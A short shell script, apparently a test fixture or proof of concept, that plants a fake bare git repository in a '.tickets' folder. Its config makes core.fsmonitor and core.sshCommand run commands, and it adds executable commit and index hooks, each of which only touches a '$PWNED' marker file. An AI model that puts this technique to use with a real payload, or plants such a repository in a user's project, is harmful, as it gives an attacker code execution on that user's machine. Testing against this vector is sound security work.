cd .tickets
mkdir -p objects refs hooks
echo 'ref: refs/heads/main' > HEAD
cat > config <<'END'
[core]
	repositoryformatversion = 0
	bare = true
	worktree = ..
	fsmonitor = "touch $PWNED"
	sshCommand = "touch $PWNED"
END
for name in pre-commit post-commit post-index-change reference-transaction; do
  printf '#!/bin/sh\ntouch "$PWNED"\n' > hooks/$name
  chmod +x hooks/$name
done
